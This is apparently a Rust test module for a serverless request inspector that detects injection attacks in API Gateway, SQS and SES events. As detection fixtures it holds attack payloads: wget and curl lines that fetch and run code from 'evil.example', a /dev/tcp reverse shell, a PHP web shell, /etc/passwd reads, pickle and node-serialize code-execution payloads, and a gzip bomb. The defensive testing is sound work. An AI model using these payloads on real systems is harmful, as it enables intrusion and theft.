//! Inspector-level tests: what findings say, where detectors look, and how configuration
//! changes what is reported.
#![allow(clippy::unwrap_used, clippy::expect_used)] // reason: tests

use super::*;
use crate::config::Config;
use serde_json::{json, Value};

fn inspect_with(config: &InspectConfig, event: &Value) -> Vec<Finding> {
    let inspector = Inspector::new(config).unwrap();
    let mut out = Vec::new();
    inspector.inspect(&InputView::new(event), &mut out);
    out
}

fn inspect(event: &Value) -> Vec<Finding> {
    inspect_with(&InspectConfig::default(), event)
}

fn http(query: Value, body: Option<String>) -> Value {
    let mut e = json!({"version": "2.0", "routeKey": "POST /orders/{id}", "rawPath": "/orders/7",
        "requestContext": {"http": {"method": "POST", "path": "/orders/7"}},
        "headers": {"content-type": "application/json", "user-agent": "Mozilla/5.0 (X11; Linux x86_64)"},
        "queryStringParameters": query});
    if let Some(b) = body {
        e["body"] = Value::String(b);
    }
    e
}

fn sqs(bodies: &[&str]) -> Value {
    let records: Vec<Value> = bodies
        .iter()
        .enumerate()
        .map(|(i, b)| {
            json!({"messageId": format!("m{i}"), "receiptHandle": "r", "body": b,
            "attributes": {}, "messageAttributes": {}, "md5OfBody": "x", "eventSource": "aws:sqs",
            "eventSourceARN": "arn:aws:sqs:eu-west-1:1:q", "awsRegion": "eu-west-1"})
        })
        .collect();
    json!({ "Records": records })
}

#[test]
fn clean_events_have_no_findings() {
    let body = json!({"name": "Siobhán O'Brien", "note": "Please select the red one, or the blue; thanks!",
        "email": "a.b+c@example.com", "when": "2024-05-17T13:45:00Z", "site": "https://example.com/a?b=c"});
    assert!(inspect(&http(
        json!({"page": "2", "q": "coffee or tea"}),
        Some(body.to_string())
    ))
    .is_empty());
    assert!(inspect(&sqs(&[
        "{\"order\": 5, \"comment\": \"it's fine\"}",
        "plain text"
    ]))
    .is_empty());
}

#[test]
fn a_finding_names_category_rule_path_excerpt_and_transforms() {
    let f = inspect(&http(json!({"id": "%2527%2520OR%25201%253D1--"}), None));
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].category, Category::Sqli);
    assert_eq!(f[0].path, "$.queryStringParameters.id");
    assert!(f[0].rule.starts_with("sqli."));
    assert_eq!(f[0].transforms, vec!["percent_decode"]);
    assert!(!f[0].excerpt.is_empty() && f[0].excerpt.chars().count() <= 48);
}

#[test]
fn a_payload_split_into_a_parameters_name_and_value_is_found_rejoined() {
    // `?<html ontouchstart=alert(1)>`: neither `<html ontouchstart` nor `alert(1)>` is markup
    // that runs; the query as the client wrote it is.
    let f = inspect(&http(json!({"<html ontouchstart": "alert(1)>"}), None));
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(f[0].category, Category::Xss);
    assert_eq!(f[0].path, "$.queryStringParameters['<html ontouchstart']");
    assert!(f[0].transforms.contains(&"pair"), "{:?}", f[0].transforms);
    // A name with an odd byte and a harmless value stays harmless rejoined.
    assert!(inspect(&http(json!({"size (cm)": "42", "a b": "c"}), None)).is_empty());
}

#[test]
fn a_scanner_naming_itself_in_the_user_agent_is_refused_there_only() {
    let mut e = http(Value::Null, None);
    e["headers"]["user-agent"] = json!("sqlmap/1.7.4#stable (https://sqlmap.org)");
    let f = inspect(&e);
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(
        (f[0].category, f[0].rule.as_ref()),
        (Category::Scanner, "scanner.user_agent")
    );
    assert_eq!(f[0].path, "$.headers.user-agent");
    // The tool's name as a word elsewhere, or inside another word, is not a scan.
    e["headers"]["user-agent"] =
        json!("Mozilla/5.0 (X11; Linux x86_64) Gecko/20100101 Firefox/128.0");
    e["queryStringParameters"] = json!({"q": "how to use sqlmap and nikto"});
    assert!(inspect(&e).is_empty());
}

#[test]
fn json_bodies_keys_and_base64_are_inspected() {
    let body = json!({"user": {"$ne": null}, "list": [{"__proto__": {"admin": true}}]});
    let f = inspect(&http(Value::Null, Some(body.to_string())));
    let rules: Vec<&str> = f.iter().map(|f| f.rule.as_ref()).collect();
    assert!(rules.contains(&"nosqli.operator_key"), "{rules:?}");
    assert!(rules.contains(&"proto.proto_key"), "{rules:?}");
    let key = f.iter().find(|f| f.rule == "nosqli.operator_key").unwrap();
    assert_eq!(key.path, "$.body.user['$ne']");
    assert!(key.transforms.contains(&"json"));

    let mut e = http(Value::Null, None);
    e["isBase64Encoded"] = json!(true);
    e["body"] = json!("PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="); // <script>alert(1)</script>
    let f = inspect(&e);
    assert_eq!(f[0].category, Category::Xss);
    assert_eq!(f[0].transforms, vec!["base64"]);
}

#[test]
fn plus_is_read_as_a_space_outside_url_paths() {
    // Query strings and form bodies carried in messages and logs: `parse_qs` reads `+` as a
    // space, and so does every detector.
    for (body, rule) in [
        (
            "id=-1+union+select+password+from+users",
            "sqli.union_select",
        ),
        ("<img+src=x+onerror=alert(1)>", "xss.event_handler"),
        (
            "x;wget+http://evil.example/x+-O+/tmp/x",
            "cmdi.command_chain",
        ),
    ] {
        let found = inspect(&sqs(&[body]));
        assert_eq!(
            found.first().map(|f| &*f.rule),
            Some(rule),
            "{body}: {found:?}"
        );
        assert!(
            found[0].transforms.contains(&"percent_decode"),
            "{body}: {found:?}"
        );
    }
    // Not a space: offsets, phone numbers, addresses and base64 stay clean.
    assert!(inspect(&sqs(&[
        "2024-05-17T13:45:00+02:00",
        "+1-555-0100",
        "q=select+a+size&order=price",
        "a+b@example.com",
        "AbC+dEf/GhI+jKl=",
    ]))
    .is_empty());
    // In a URL path `+` is a `+` (CRS 942101-11 must not fire there).
    let mut e = http(json!({}), None);
    e["rawPath"] = json!("/post/foo/24+union+all+select+1,2,3+from+aa/bar");
    assert!(inspect(&e).is_empty(), "{:?}", inspect(&e));
}

#[test]
fn base64_hidden_by_escapes_is_read_after_them() {
    // Percent-encoded padding (`%3D`), decoded by the normalizer (a cookie is also read
    // decoded by the view, as cookie parsers hand it over: still one finding). Unicode
    // escapes hide the first letters of a node-serialize payload (`_$$ND_FUNC$$_function(){…}`).
    let cookie = |v: &str| {
        let mut e = http(Value::Null, None);
        e["headers"]["cookie"] = json!(format!("session={v}"));
        e
    };
    let padded = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg%3D%3D";
    for (event, transforms) in [
        (cookie(padded), vec!["percent_decode", "base64"]),
        (sqs(&[padded]), vec!["percent_decode", "base64"]),
        (
            sqs(&["\\u0058\\u0079QkTkRfRlVOQyQkX2Z1bmN0aW9uKCl7cmVxdWlyZSgnY2hpbGRfcHJvY2VzcycpLmV4ZWMoJ2lkJyl9KCk="]),
            vec!["unicode_escapes", "base64"],
        ),
    ] {
        let f = inspect(&event);
        assert_eq!(f.len(), 1, "{f:?}");
        assert_eq!(f[0].transforms, transforms, "{f:?}");
    }
    // Escaped text that is not base64 under its escapes stays as it is.
    assert!(inspect(&sqs(&["caf\\u00e9 au lait, 100%25 arabica"])).is_empty());
}

#[test]
fn base64_pickles_are_read_for_their_imports() {
    // `base64.b64encode(pickle.dumps(Exploit()))` with protocols 2 and 4 (Python 3.8+'s
    // default); the object's `__reduce__` returns `(os.system, ('id',))`.
    for pickle in [
        "gAJjcG9zaXgKc3lzdGVtCnEAWAIAAABpZHEBhXECUnEDLg==",
        "gASVHQAAAAAAAACMBXBvc2l4lIwGc3lzdGVtlJOUjAJpZJSFlFKULg==",
    ] {
        let found = inspect(&sqs(&[pickle]));
        assert_eq!(found.len(), 1, "{pickle}: {found:?}");
        assert_eq!(found[0].rule, "code.deserialization");
        assert_eq!(found[0].transforms, ["base64", "binary"]);
    }
    // Base64 of other binary (an image, a random id) is not read as text.
    assert!(inspect(&sqs(&["iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4nGNgYGD4DwABBAEAwS2OUAAAAABJRU5ErkJggg=="])).is_empty());
}

/// An SES receipt notification through SNS whose raw e-mail has `body` as its text part.
fn ses_email(subject: &str, body: &str) -> Value {
    let content = format!(
        "Return-Path: <a@example.com>\r\nReceived: from mx.example.com\r\n\
         Subject: {subject}\r\nMIME-Version: 1.0\r\n\
         Content-Type: multipart/alternative; boundary=\"b\"\r\n\r\n\
         --b\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n{}\r\n--b--\r\n",
        base64::Engine::encode(&base64::engine::general_purpose::STANDARD, body)
    );
    let message = json!({"notificationType": "Received", "content": content});
    json!({"Records": [{"EventSource": "aws:sns", "EventVersion": "1.0",
        "EventSubscriptionArn": "arn:aws:sns:us-east-1:1:t:s",
        "Sns": {"Type": "Notification", "MessageId": "x", "TopicArn": "arn:aws:sns:us-east-1:1:t",
            "Message": message.to_string(), "Timestamp": "2024-01-01T00:00:00.000Z",
            "SignatureVersion": "1", "Signature": "x", "SigningCertUrl": "https://x", "UnsubscribeUrl": "https://x",
            "MessageAttributes": {}}}]})
}

#[test]
fn an_email_is_inspected_by_field_and_part_not_as_log_lines() {
    // Header lines, a cron report's log lines and commands on lines of their own are an
    // e-mail's content.
    let report = "Backup finished.\n2024-01-01 02:00:00 INFO uploaded 42 files\nQUIT\n\nContent-Type: sent as text\n";
    assert_eq!(inspect(&ses_email("Nightly report", report)), vec![]);
    // What an e-mail carries is still read: a subject, a base64 part.
    let f = inspect(&ses_email("x' UNION SELECT password FROM users--", "hi"));
    assert_eq!(f[0].path, "$.Records[0].Sns.Message.content.subject");
    // A field is one line: a bare CR left in the subject still breaks it.
    let f = inspect(&ses_email("Hi\rBcc: all@example.com", "hi"));
    assert_eq!(f[0].category, Category::LogInjection);
    let f = inspect(&ses_email("Hello", "<script>alert(1)</script>"));
    assert_eq!(f[0].path, "$.Records[0].Sns.Message.content[0]");
    assert!(f[0].transforms.contains(&"message"));
}

#[test]
fn rich_text_is_also_read_as_its_text() {
    // What a rich-text editor sends: the SQL is read as the text a tag stripper leaves.
    let f = inspect(&sqs(&["<p>' or ''-'</p>"]));
    assert_eq!(f[0].rule, "sqli.string_break");
    assert!(f[0].transforms.contains(&"markup_text"));
    assert_eq!(
        inspect(&sqs(&["<p>O'Brien &amp; sons, <b>select</b> a date</p>"])),
        vec![]
    );
}

#[test]
fn batch_findings_carry_their_record() {
    let f = inspect(&sqs(&["fine", "; cat /etc/passwd", "also fine"]));
    assert!(!f.is_empty());
    assert!(f.iter().all(|f| f.record == Some(1)), "{f:?}");
}

#[test]
fn repeated_values_are_judged_like_the_first() {
    // Clean values are remembered once an event has shown enough of them (64 notes here);
    // attacks never are: each copy is reported.
    let note = "it's fine (really)";
    let attack = "; cat /etc/passwd";
    let mut bodies = vec![note; 64];
    bodies.extend([attack, note, attack]);
    let f = inspect(&sqs(&bodies));
    let mut records: Vec<_> = f.iter().map(|f| f.record).collect();
    records.dedup();
    assert_eq!(records, [Some(64), Some(66)], "{f:?}");
    // An allowlist at one place does not hide the same text at another.
    let mut items = vec![json!({"note": note}); 64];
    items.push(json!({"q": "1' or '1'='1", "note": note}));
    items.push(json!({"note": note, "r": "1' or '1'='1"}));
    let config: Config = Config::from_toml("[[inspect.allow]]\npath = \"$.body[*].q\"\n").unwrap();
    let event = http(Value::Null, Some(json!(items).to_string()));
    let f = inspect_with(&config.inspect, &event);
    let paths: Vec<_> = f.iter().map(|f| f.path.as_str()).collect();
    assert_eq!(paths, ["$.body[65].r"]);
}

#[test]
fn allowlists_scopes_and_disable() {
    let event = http(
        Value::Null,
        Some(json!({"html": "<b onclick=x()>hi</b>", "q": "1' or '1'='1"}).to_string()),
    );
    let config: Config = Config::from_toml(
        r#"
        [inspect]
        [[inspect.allow]]
        path = "$.body.html"
        allow = ["xss"]
        [[inspect.scope]]
        route = "POST /orders/{id}"
        disable = ["sqli.string_break"]
        "#,
    )
    .unwrap();
    config.validate().unwrap();
    let f = inspect_with(&config.inspect, &event);
    assert!(f.is_empty(), "{f:?}");
    // Without them, both are reported.
    assert_eq!(inspect(&event).len(), 2);
    // A scope for another route leaves the rule on.
    let other: Config =
        Config::from_toml("[[inspect.scope]]\nroute = \"GET /health\"\ndisable = [\"sqli\"]\n")
            .unwrap();
    assert!(inspect_with(&other.inspect, &event)
        .iter()
        .any(|f| f.category == Category::Sqli));
}

/// Findings of AWS security services describe attacks; the scopes `docs/configuration.md`
/// gives a function that answers them let them through, and only from those sources.
#[test]
fn security_findings_pass_with_the_documented_scope() {
    let finding = |source: &str, detail: Value| {
        json!({"version": "0", "id": "e1", "detail-type": "Finding", "source": source,
            "account": "123456789012", "time": "2026-01-01T00:00:00Z", "region": "us-east-1",
            "resources": [], "detail": detail})
    };
    let process = |path: &str| json!({"name": "x", "executablePath": path, "pwd": "/root"});
    let findings = [
        finding(
            "aws.guardduty",
            json!({"type": "Execution:Runtime/NewBinaryExecuted",
            "service": {"runtimeDetails": {"process": process("/tmp/x"),
                "lineage": [process("/usr/bin/bash"), process("/usr/sbin/sshd")]}}}),
        ),
        finding(
            "aws.guardduty",
            json!({"type": "Execution:Runtime/ReverseShell",
            "description": "Process bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
            "service": {"runtimeDetails": {"process": process("/usr/bin/bash")}}}),
        ),
        finding(
            "aws.guardduty",
            json!({"type": "CredentialAccess:Runtime/MemoryDumpExecuted",
            "service": {"runtimeDetails": {"context": {"memoryRegions": ["/proc/1/mem"]}}}}),
        ),
        finding(
            "aws.guardduty",
            json!({"type": "UnauthorizedAccess:EC2/MetadataDNSRebind",
            "service": {"action": {"dnsRequestAction": {"domain": "169.254.169.254.nip.io"}}}}),
        ),
        finding(
            "aws.inspector2",
            json!({"type": "PACKAGE_VULNERABILITY",
            "packageVulnerabilityDetails": {"vulnerablePackages": [
                {"filePath": "/usr/local/jetty/lib/http2/http2-hpack-9.4.27.jar"},
                {"filePath": "/var/task/requests-2.25.0.dist-info/METADATA"}]}}),
        ),
    ];
    let config: Config = Config::from_toml(
        r#"
        [[inspect.scope]]
        source = "aws.guardduty"
        disable = ["path_traversal", "command_injection", "ssrf"]
        [[inspect.scope]]
        source = "aws.inspector2"
        disable = ["path_traversal", "command_injection", "ssrf"]
        "#,
    )
    .unwrap();
    config.validate().unwrap();
    for event in &findings {
        assert!(!inspect(event).is_empty(), "refused by default: {event}");
        let f = inspect_with(&config.inspect, event);
        assert!(f.is_empty(), "{f:?} in {event}");
    }
    // The same text from other sources, or another trigger, is still read.
    let text = json!({"p": "/proc/1/mem", "d": "169.254.169.254.nip.io"});
    let sqs = json!({"Records": [{"messageId": "m", "eventSource": "aws:sqs",
        "body": text.to_string()}]});
    for event in [
        finding("myapp.orders", text.clone()),
        finding("aws.s3", text),
        sqs,
    ] {
        let f = inspect_with(&config.inspect, &event);
        assert!(f.len() >= 2, "{f:?} in {event}");
    }
    // A prefix and `*` matches every source it starts.
    let prefix: Config = Config::from_toml(
        "[[inspect.scope]]\nsource = \"aws.guard*\"\ndisable = [\"path_traversal\", \"command_injection\", \"ssrf\"]\n",
    )
    .unwrap();
    assert!(inspect_with(&prefix.inspect, &findings[0]).is_empty());
    assert!(!inspect_with(&prefix.inspect, &findings[4]).is_empty());
    for bad in ["", "*", "aws.*.x"] {
        let c: Config =
            Config::from_toml(&format!("[[inspect.scope]]\nsource = {bad:?}\n")).unwrap();
        let e = c.validate().unwrap_err().to_string();
        assert!(e.contains("inspect.scope[0].source"), "{e}");
    }
}

#[test]
fn paranoia_adds_rules() {
    let event = http(json!({"q": "a/b/../c"}), None);
    assert!(inspect(&event).is_empty());
    let config = InspectConfig {
        paranoia: Some(3),
        ..InspectConfig::default()
    };
    assert_eq!(inspect_with(&config, &event)[0].rule, "path.traversal");
}

#[test]
fn limits_are_checked_first_and_stop_inspection() {
    let big = "' or 1=1 -- ".repeat(1000);
    let config = InspectConfig {
        max_event_bytes: Some(4096),
        ..InspectConfig::default()
    };
    let f = inspect_with(&config, &http(json!({"q": big}), None));
    assert_eq!(f.len(), 1);
    assert_eq!(f[0].rule, "limit.event_bytes");
    assert_eq!(
        f[0].category.deny_reason(),
        crate::decision::DenyReason::TooLarge
    );

    let config = InspectConfig {
        max_string_bytes: Some(16),
        ..InspectConfig::default()
    };
    let f = inspect_with(&config, &http(json!({"q": "x".repeat(17)}), None));
    assert_eq!(f[0].rule, "limit.string_bytes");

    let mut deep = json!("x");
    for _ in 0..40 {
        deep = json!({ "a": deep });
    }
    let f = inspect(&http(Value::Null, Some(deep.to_string())));
    assert_eq!(f[0].rule, "limit.depth", "{f:?}");
}

#[test]
fn compressed_payloads_past_the_event_budget_are_refused() {
    use base64::Engine as _;
    use std::io::Write as _;
    // Each record inflates to 9 MiB of spaces (a few KiB sent): the first fits the event's
    // 16 MiB budget, the second is cut, the third is not inflated at all; both are refused
    // (a batch trigger must not pass the third uninspected).
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    gz.write_all(&vec![b' '; 9 << 20]).unwrap();
    let bomb = base64::engine::general_purpose::STANDARD.encode(gz.finish().unwrap());
    let f = inspect(&sqs(&[&bomb, &bomb, &bomb]));
    let cut: Vec<_> = f
        .iter()
        .filter(|f| f.rule == "limit.decoded_bytes")
        .collect();
    assert_eq!(cut.len(), 2, "{f:?}");
    assert_eq!(cut[0].path, "$.Records[1].body");
    assert_eq!(cut[1].record, Some(2));
    assert_eq!(cut[0].record, Some(1));
    assert_eq!(
        cut[0].category.deny_reason(),
        crate::decision::DenyReason::TooLarge
    );
    // One of them alone is inspected whole.
    assert!(inspect(&sqs(&[&bomb]))
        .iter()
        .all(|f| f.rule != "limit.decoded_bytes"));
}

#[test]
fn findings_per_event_are_bounded() {
    let bodies: Vec<String> = (0..200)
        .map(|i| format!("{{\"k{i}\": \"<script>x</script>\"}}"))
        .collect();
    let body = format!("[{}]", bodies.join(","));
    let f = inspect(&http(Value::Null, Some(body)));
    assert_eq!(f.len(), MAX_FINDINGS);
}

#[test]
fn detector_hits_per_event_are_bounded_once_refused() {
    use base64::Engine as _;
    // Strings that all land at one path report one finding; past `MAX_HITS` hits the refused
    // event is read no further (a later category is not looked for: the event is refused).
    const _: () = assert!(300 > MAX_HITS);
    let mut bytes = b"\0' OR 1=1--".repeat(300);
    bytes.extend_from_slice(b"\0<script>alert(1)</script>\0");
    let b64 = base64::engine::general_purpose::STANDARD.encode(&bytes);
    let mut octet = http(Value::Null, Some(b64.clone()));
    octet["headers"]["content-type"] = json!("application/octet-stream");
    octet["isBase64Encoded"] = json!(true);
    let rules: Vec<String> = inspect(&octet).into_iter().map(|f| f.rule.into()).collect();
    assert_eq!(rules, ["sqli.string_break"]);
    // Under the bound, the last one is found too.
    let short = b"\0' OR 1=1--\0<script>alert(1)</script>\0";
    octet["body"] = json!(base64::engine::general_purpose::STANDARD.encode(short));
    assert_eq!(inspect(&octet).len(), 2);
    // In a batch, a record not yet refused is still read after another spent the budget.
    let mut batch = sqs(&["fine", "<script>alert(1)</script>"]);
    batch["Records"][0]["messageAttributes"] =
        json!({"blob": {"dataType": "Binary", "binaryValue": b64}});
    let f = inspect(&batch);
    assert!(
        f.iter()
            .any(|f| f.record == Some(1) && f.category == Category::Xss),
        "{f:?}"
    );
}

#[test]
fn invalid_configuration_names_the_key() {
    let bad = |toml: &str| {
        let c = Config::from_toml(toml).unwrap();
        c.validate().unwrap_err().key().unwrap().to_owned()
    };
    assert_eq!(
        bad("[inspect]\nparanoia = 7"),
        "inspect.paranoia (GUARD_INSPECT_PARANOIA)"
    );
    assert_eq!(
        bad("[inspect]\ndisable = [\"nope\"]"),
        "inspect.disable (GUARD_INSPECT_DISABLE)"
    );
    assert_eq!(
        bad("[inspect]\nmax_depth = 0"),
        "inspect.max_depth (GUARD_INSPECT_MAX_DEPTH)"
    );
    assert_eq!(
        bad("[[inspect.scope]]\ntrigger = \"ftp\""),
        "inspect.scope[0].trigger"
    );
    assert_eq!(
        bad("[[inspect.allow]]\npath = \"body\""),
        "inspect.allow[0].path"
    );
    let env = |pairs: &'static [(&'static str, &'static str)]| {
        move |k: &str| {
            pairs
                .iter()
                .find(|(n, _)| *n == k)
                .map(|(_, v)| (*v).to_owned())
        }
    };
    let mut c = InspectConfig::default();
    c.apply_env(&env(&[
        ("GUARD_INSPECT_PARANOIA", "2"),
        ("GUARD_INSPECT_DISABLE", "xss, log_injection"),
    ]))
    .unwrap();
    assert_eq!(c.paranoia, Some(2));
    assert_eq!(c.disable, vec!["xss", "log_injection"]);
    let err = c
        .apply_env(&env(&[("GUARD_INSPECT_MAX_KEYS", "many")]))
        .unwrap_err();
    assert_eq!(err.key(), Some("inspect.max_keys (GUARD_INSPECT_MAX_KEYS)"));
}

#[test]
fn schema_per_scope_from_a_file() {
    let dir = std::env::temp_dir().join(format!("lg-inspect-schema-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    let path = dir.join("order.json");
    std::fs::write(
        &path,
        r#"{"type": "object", "required": ["qty"], "properties": {"qty": {"type": "integer"}}}"#,
    )
    .unwrap();
    let config = InspectConfig {
        scope: vec![ScopeConfig {
            trigger: Some("apigateway-http".into()),
            schema: Some(path),
            ..ScopeConfig::default()
        }],
        ..InspectConfig::default()
    };
    let f = inspect_with(
        &config,
        &http(Value::Null, Some("{\"qty\": \"ten\"}".into())),
    );
    assert_eq!(f.len(), 1, "{f:?}");
    assert_eq!(
        (f[0].category, f[0].path.as_str()),
        (Category::Schema, "$.body.qty")
    );
    assert!(inspect_with(&config, &http(Value::Null, Some("{\"qty\": 10}".into()))).is_empty());
    let missing = InspectConfig {
        scope: vec![ScopeConfig {
            schema: Some(dir.join("absent.json")),
            ..ScopeConfig::default()
        }],
        ..InspectConfig::default()
    };
    assert_eq!(
        Inspector::new(&missing).unwrap_err().key(),
        Some("inspect.scope[0].schema")
    );
    std::fs::remove_dir_all(&dir).ok();
}

#[test]
fn every_category_is_reachable_through_a_trigger() {
    let cases: &[(&str, Category)] = &[
        ("1 UNION SELECT password FROM users", Category::Sqli),
        ("<svg onload=alert(1)>", Category::Xss),
        (
            "x; curl http://evil.example | sh",
            Category::CommandInjection,
        ),
        ("../../../../etc/passwd", Category::PathTraversal),
        (
            "http://[::ffff:a9fe:a9fe]/latest/meta-data/",
            Category::Ssrf,
        ),
        ("${${lower:j}ndi:ldap://x/a}", Category::Ssti),
        ("<?php system($_GET['c']); ?>", Category::CodeInjection),
        (
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><r>&x;</r>",
            Category::Xxe,
        ),
        ("user[$ne]=1", Category::Nosqli),
        (
            "bob\n2024-05-01 12:00:00 INFO login ok user=admin",
            Category::LogInjection,
        ),
        ("__proto__.isAdmin", Category::PrototypePollution),
        ("x\r\nSet-Cookie: sid=1", Category::SessionFixation),
    ];
    for (payload, category) in cases {
        let f = inspect(&sqs(&[payload]));
        assert!(
            f.iter().any(|f| f.category == *category),
            "{payload}: {f:?}"
        );
    }
}

/// The detectors (bits in `DETECTORS` order) a scan lets run on `text` at paranoia 1.
fn runs(text: &str) -> Vec<Category> {
    let scan = Tables::new().unwrap().scan(text, 1);
    DETECTORS
        .iter()
        .enumerate()
        .filter(|(i, _)| scan.run & (1 << i) != 0)
        .map(|(_, d)| d.0)
        .collect()
}

#[test]
fn plain_values_skip_every_detector() {
    for plain in [
        "42",
        "items",
        "SKU-1001",
        "application/json",
        "Siobhán",
        "a_b 2.0 /x-y",
    ] {
        assert_eq!(runs(plain), [], "{plain}");
    }
}

#[test]
fn a_scan_runs_the_detector_an_attack_needs() {
    for (attack, category) in [
        ("1' or 1=1", Category::Sqli),
        ("UNION SELECT password", Category::Sqli),
        ("<svg onload=alert(1)>", Category::Xss),
        ("Document.Cookie", Category::Xss),
        ("; cat /etc/passwd", Category::CommandInjection),
        ("....//ETC/passwd", Category::PathTraversal),
        ("http://169.254.169.254/", Category::Ssrf),
        ("{{7*7}}", Category::Ssti),
        ("Runtime.getRuntime", Category::CodeInjection),
        ("<!DOCTYPE x", Category::Xxe),
        ("$ne", Category::Nosqli),
        ("a\u{2028}b", Category::LogInjection),
        ("__PROTO__", Category::PrototypePollution),
        ("@(7*7)", Category::Ssti),
        ("[=7*7]", Category::Ssti),
        ("//2852039166/", Category::Ssrf),
        ("\u{1b}[2J", Category::LogInjection),
        ("+ADw-!DOCTYPE", Category::Xxe),
        ("<?xml-stylesheet href='http://x/'?>", Category::Xxe),
    ] {
        assert!(
            runs(attack).contains(&category),
            "{attack}: {:?}",
            runs(attack)
        );
    }
}

#[test]
fn the_scan_finds_the_gates_over_the_original_case() {
    let tables = Tables::new().unwrap();
    for (text, g) in [
        ("/LATEST/meta", subject::gate::SSRF_PATH),
        ("${IFS}", subject::gate::IFS),
        ("1 UNION all", subject::gate::SQL_WORD),
        ("Information_Schema", subject::gate::SQL_OBJECT),
        ("1 AND 1 Between 0 and 2", subject::gate::SQL_INFIX),
    ] {
        assert_ne!(tables.scan(text, 1).gates & g, 0, "{text}");
    }
    for (n, _) in subject::gate::all() {
        assert_eq!(n, n.to_ascii_lowercase(), "gate needles are lower-case");
    }
}

#[test]
fn data_uri_of_text_is_an_inclusion() {
    let f = inspect(&http(
        json!({"ssrf": "data:text/plain;base64,SSBsb3ZlIFBIUAo="}),
        None,
    ));
    assert_eq!(
        f.first().map(|f| f.rule.as_ref()),
        Some("path.data_uri"),
        "{f:?}"
    );
    let f = inspect(&http(
        json!({"avatar": "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAAB"}),
        None,
    ));
    assert!(f.is_empty(), "{f:?}");
}

/// Every rule id written in a detector's source is registered: an unregistered one is still
/// reported, but no `disable`, `allow` or scope selector can name it.
#[test]
fn every_rule_id_in_the_detectors_is_registered() {
    let sources = [
        include_str!("sqli.rs"),
        include_str!("nosqli.rs"),
        include_str!("xss.rs"),
        include_str!("cmdi.rs"),
        include_str!("traversal.rs"),
        include_str!("ssrf.rs"),
        include_str!("ssti.rs"),
        include_str!("code.rs"),
        include_str!("xxe.rs"),
        include_str!("logi.rs"),
        include_str!("proto.rs"),
        include_str!("session.rs"),
        include_str!("ldapi.rs"),
        include_str!("formula.rs"),
        include_str!("limits.rs"),
        include_str!("schema.rs"),
        include_str!("mod.rs"),
    ];
    let prefixes: Vec<String> = rules::RULES
        .iter()
        .map(|(r, _)| format!("\"{}.", r.split('.').next().unwrap()))
        .collect();
    let mut seen = 0;
    for src in sources {
        // Tests name rules they expect; only code before the test module counts.
        let code = src.split("#[cfg(test)]").next().unwrap();
        for (at, _) in code.match_indices('"') {
            let rest = &code[at..];
            if !prefixes.iter().any(|p| rest.starts_with(p.as_str())) {
                continue;
            }
            let end = rest[1..].find('"').unwrap() + 1;
            let id = &rest[1..end];
            // `family.name`; a bare `family.` is a prefix some word list holds (`session.`).
            let rule_like = id
                .bytes()
                .all(|b| b.is_ascii_lowercase() || b == b'_' || b == b'.')
                && !id.ends_with('.');
            if rule_like {
                seen += 1;
                assert!(
                    rules::index(id).is_some(),
                    "rule {id} is not in rules::RULES"
                );
            }
        }
    }
    assert!(seen > 40, "found only {seen} rule ids: the scan is broken");
}
